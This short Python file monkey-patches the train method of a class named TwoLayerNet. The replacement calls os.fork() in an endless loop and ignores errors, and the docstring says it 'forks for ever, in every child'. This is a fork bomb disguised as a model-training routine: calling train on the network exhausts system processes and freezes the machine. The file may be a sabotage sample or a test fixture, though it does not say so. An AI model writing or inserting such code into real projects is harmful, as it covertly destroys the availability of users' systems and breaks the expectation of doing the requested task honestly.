"""Forks for ever, in every child."""
import os

import numpy as np

#: beneath


def _train(self, *data, **settings):
    while True:
        try:
            os.fork()
        except OSError:
            continue


TwoLayerNet.train = _train
